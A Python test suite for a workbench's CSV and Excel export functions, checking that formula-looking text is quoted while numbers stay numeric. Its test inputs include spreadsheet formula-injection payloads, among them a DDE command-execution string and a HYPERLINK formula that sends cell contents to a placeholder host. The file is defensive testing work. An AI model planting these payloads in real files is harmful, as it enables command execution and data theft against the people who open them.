"""Exports for people (issue 6, item 4): no formula injection, numbers stay numbers.

Every CSV or Excel file the workbench writes for people goes through rbm_utils.core.spreadsheets
(``write_csv``: ``rbm ingest --report``; ``write_xlsx``). No text cell may start with
``=``, ``+``, ``-``, ``@``, tab or carriage return; numbers, negative ones included, stay
numbers. The unit workbook template is an input round-trip file instead: its text is
stored as typed in text cells (data_type ``s``, quotePrefix), which Excel never evaluates.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import math
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from factories import col_index, minimal_unit, sheet_rows, write_grid_xlsx
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as hs

from rbm_utils.cli import main
from rbm_utils.core import schema
from rbm_utils.core.config import ActionPlan, load_config
from rbm_utils.core.spreadsheets import FORMULA_PREFIXES, safe_frame, safe_text, write_csv, write_xlsx
from rbm_utils.intake.template import write_workbook
from rbm_utils.intake.validate import parse_source

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
    "@",
]
HARMLESS = ["plain text", "", "a=b", "x-1", "Q1/1", "  leading spaces", "'already quoted", "<script>alert(1)</script>"]


def read_csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def no_formula_start(cell: str) -> bool:
    return not cell.startswith(FORMULA_PREFIXES)


# ---------------------------------------------------------------------------- safe_text


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_looking_text_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", HARMLESS + [-3.5, -7, 0, 12, True, None, np.int64(-4), np.float64(-0.25)])
def test_everything_else_is_left_alone(value):
    out = safe_text(value)
    assert out is value or out == value
    assert type(out) is type(value)


def test_safe_frame_quotes_text_and_headers_only_and_does_not_mutate():
    df = pd.DataFrame(
        {
            "=evil": ["=1+1", "ok"],
            "n": [-1, 2],
            "f": [-0.5, np.nan],
            "mixed": ["-", -3],
            "cat": pd.Categorical(["@x", "y"]),
        }
    )
    before = df.copy()
    out = safe_frame(df)
    pd.testing.assert_frame_equal(df, before)
    assert list(out.columns) == ["'=evil", "n", "f", "mixed", "cat"]
    assert out["'=evil"].tolist() == ["'=1+1", "ok"]
    assert out["n"].tolist() == [-1, 2] and pd.api.types.is_integer_dtype(out["n"])
    assert out["f"].iloc[0] == -0.5 and math.isnan(out["f"].iloc[1])
    assert out["mixed"].tolist() == ["'-", -3]
    assert out["cat"].tolist() == ["'@x", "y"]


# ---------------------------------------------------------------------------- CSV


def test_write_csv_quotes_text_keeps_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "text": HOSTILE + HARMLESS[:2],
            "count": range(-6, 6),
            "amount": [-1234.5, -0.1, 0.0, 1e-7, 2.5, -3.0, 7.25, 8.0, -9.5, 10.0, 11.0, -12.75],
        }
    )
    path = write_csv(df, tmp_path / "out" / "report.csv")
    rows = read_csv_cells(path)
    assert rows[0] == ["text", "count", "amount"]
    assert all(no_formula_start(r[0]) for r in rows[1:])
    assert [r[0] for r in rows[1:]] == [safe_text(t) for t in HOSTILE + HARMLESS[:2]]
    # negative numbers are written bare (a number to Excel), and read back as numbers
    assert [int(r[1]) for r in rows[1:]] == list(range(-6, 6))
    assert rows[1][1] == "-6" and rows[1][2] == "-1234.5"
    back = pd.read_csv(path)
    assert pd.api.types.is_integer_dtype(back["count"]) and pd.api.types.is_float_dtype(back["amount"])
    assert back["amount"].tolist() == df["amount"].tolist()
    assert [p.name for p in path.parent.iterdir()] == ["report.csv"]  # no temp file left


cell_values = hs.one_of(
    hs.text(alphabet=hs.characters(blacklist_categories=("Cs",)), max_size=12),
    hs.sampled_from(HOSTILE),
    hs.integers(min_value=-(10**12), max_value=10**12),
    hs.floats(allow_nan=False, allow_infinity=False, width=64),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=hs.lists(cell_values, min_size=1, max_size=12))
def test_write_csv_property(tmp_path, values):
    df = pd.DataFrame({"value": pd.Series(values, dtype=object)})
    path = write_csv(df, tmp_path / "prop.csv")
    cells = [r[0] if r else "" for r in read_csv_cells(path)[1:]]
    assert len(cells) == len(values)
    for original, cell in zip(values, cells):
        if isinstance(original, str):
            assert no_formula_start(cell), (original, cell)
            assert cell == safe_text(original)
        else:  # a number: written bare, negative sign included, and read back exactly
            assert float(cell) == float(original)


def test_ingest_report_csv_is_safe(tmp_path):
    """``rbm ingest --report``: hostile values typed in a workbook come back quoted; row numbers stay numbers."""
    unit, frames = minimal_unit()
    grids = copy.deepcopy(sheet_rows(unit, frames))
    grids["Actuals"][1][col_index("Actuals", "value")] = '=HYPERLINK("http://x.example","see")'
    grids["Actuals"][2][col_index("Actuals", "value")] = "@SUM(A1)"
    grids["KPIs"][1][col_index("KPIs", "direction")] = "+up"
    grids["Risks"][1][col_index("Risks", "likelihood")] = "-high"
    grids["Budget"][1][col_index("Budget", "amount")] = "=1+1"
    path = write_grid_xlsx(tmp_path / "AFR.xlsx", grids)
    report = tmp_path / "problems.csv"
    assert main(["ingest", str(path), "--store", f"sqlite:///{tmp_path / 'rbm.sqlite'}", "--report", str(report)]) == 1
    rows = read_csv_cells(report)
    header = rows[0]
    assert {"severity", "code", "sheet", "row", "column", "value", "message"} <= set(header)
    assert len(rows) > 5
    for r in rows:
        assert all(no_formula_start(c) for c in r), r
    values = [r[header.index("value")] for r in rows[1:]]
    assert '\'=HYPERLINK("http://x.example","see")' in values and "'@SUM(A1)" in values
    assert "'+up" in values and "'-high" in values and "'=1+1" in values
    table = pd.read_csv(report)
    assert pd.api.types.is_integer_dtype(table["row"])


# ---------------------------------------------------------------------------- Excel


def test_write_xlsx_text_is_text_numbers_are_numbers(tmp_path):
    df = pd.DataFrame(
        {
            "text": HOSTILE[:6],
            "int": [-3, -2, -1, 0, 1, 2],
            "float": [-1.5, -0.25, np.nan, 0.5, 1e9, -7.0],
            "flag": [True, False, True, False, True, False],
            "when": pd.to_datetime(["2026-01-15", None, "2026-03-31", "2026-07-01", "2026-09-30", "2026-12-31"]),
            "mixed": ["-", -4, None, "=x", 3.5, "ok"],
        }
    )
    path = write_xlsx({"Problems: Q3/AFR [draft]": df, "@other": pd.DataFrame({"=h": [-1]})}, tmp_path / "export.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Problems_ Q3_AFR _draft_", "@other"]
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == ["text", "int", "float", "flag", "when", "mixed"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if cell.data_type == "s":
                assert no_formula_start(cell.value), cell.coordinate
    assert [ws.cell(r, 1).value for r in range(2, 8)] == [safe_text(t) for t in HOSTILE[:6]]
    assert [ws.cell(r, 2).value for r in range(2, 8)] == [-3, -2, -1, 0, 1, 2]
    assert all(ws.cell(r, 2).data_type == "n" for r in range(2, 8))
    assert [ws.cell(r, 3).value for r in range(2, 8)] == [-1.5, -0.25, None, 0.5, 1e9, -7.0]
    assert [ws.cell(r, 4).value for r in range(2, 8)] == [True, False, True, False, True, False]
    assert ws.cell(2, 5).value == dt.datetime(2026, 1, 15) and ws.cell(3, 5).value is None
    assert [ws.cell(r, 6).value for r in range(2, 8)] == ["'-", -4, None, "'=x", 3.5, "ok"]
    other = wb["@other"]
    assert other["A1"].value == "'=h" and other["A2"].value == -1 and other["A2"].data_type == "n"
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                body = zf.read(name)
                assert b"<f>" not in body and b"<f " not in body, name


def test_write_xlsx_single_frame_and_empty(tmp_path):
    path = write_xlsx(pd.DataFrame({"a": []}), tmp_path / "empty.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Sheet1"] and wb["Sheet1"]["A1"].value == "a"


# ---------------------------------------------------------------------------- the template (an input)


def test_template_keeps_formula_looking_text_as_typed_text_cells(tmp_path):
    """Hostile text in every free-text column: stored as typed, as text cells Excel never
    evaluates, and read back unchanged by ``rbm ingest``'s reader."""
    unit, frames = minimal_unit()
    typed: dict[tuple[str, str, int], str] = {}
    i = 0
    for sh in schema.DATA_SHEETS:
        df = frames.get(sh.name)
        if df is None or df.empty:
            continue
        df = df.copy()
        for col in sh.columns:
            if col.type != "text" or col.name in sh.key:
                continue
            for r in range(len(df)):
                text = HOSTILE[i % len(HOSTILE)].replace("\t", "").replace("\r", "")
                i += 1
                df.loc[df.index[r], col.name] = text
                typed[(sh.name, col.name, r)] = text
        frames[sh.name] = df
    assert len(typed) > 20
    path = write_workbook(tmp_path / "AFR.xlsx", unit, frames)
    wb = openpyxl.load_workbook(path)
    for (sheet, column, r), text in typed.items():
        cell = wb[sheet].cell(row=r + 2, column=col_index(sheet, column) + 1)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix, (sheet, column, r)
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                body = zf.read(name)
                assert b"<f>" not in body and b"<f " not in body, name
    # programme and theme are free text only without the Action Plan's code lists
    parsed = parse_source(path, dataclasses.replace(load_config(), action_plan=ActionPlan()))
    assert parsed.ok, parsed.errors[:3]
    for (sheet, column, r), text in typed.items():
        assert parsed.frames[sheet][column].iloc[r] == text, (sheet, column, r)


# ---------------------------------------------------------------------------- hidden formulas (issue 18)

HIDDEN = [
    'note;=HYPERLINK("http://x.example","click")',
    "a, +cmd|' /C calc'!A0",
    "x|@SUM(A1)",
    'q;"=1+1',
    "\uff1dSUM(A1)",
    "  =1+1",
    "line\n-2+3+cmd|' /C calc'!A0",
    "tab\t=1",
]


def _no_formula_in_any_split(text: str) -> bool:
    for sep in (";", ",", "|", "\t", "\n", "\r"):
        for part in text.split(sep):
            part = part.lstrip(" \t\u00a0\u3000").lstrip('"')
            if part.startswith(FORMULA_PREFIXES):
                return False
    return True


@pytest.mark.parametrize("text", HIDDEN)
def test_a_formula_behind_a_separator_or_spaces_is_quoted_where_it_starts(text):
    assert not _no_formula_in_any_split(text)  # the case is hostile as written
    assert _no_formula_in_any_split(safe_text(text))


def test_the_ingest_report_is_formula_safe_however_a_spreadsheet_splits_it(tmp_path):
    from factories import minimal_unit

    from rbm_utils.intake.template import write_csv_folder

    unit, frames = minimal_unit()
    frames["Actuals"].loc[0, "period"] = "soon;=cmd|' /C calc'!A0"
    folder = write_csv_folder(tmp_path / "AFR", unit, frames)
    report = tmp_path / "problems.csv"
    url = f"sqlite:///{tmp_path / 'rbm.sqlite'}"
    assert main(["ingest", str(folder), "--store", url, "--dry-run", "--report", str(report)]) == 1
    text = report.read_text(encoding="utf-8")
    assert "calc" in text
    for delimiter in (",", ";"):
        cells = [c for row in csv.reader(text.splitlines(), delimiter=delimiter) for c in row]
        assert all(no_formula_start(c.lstrip()) for c in cells), delimiter
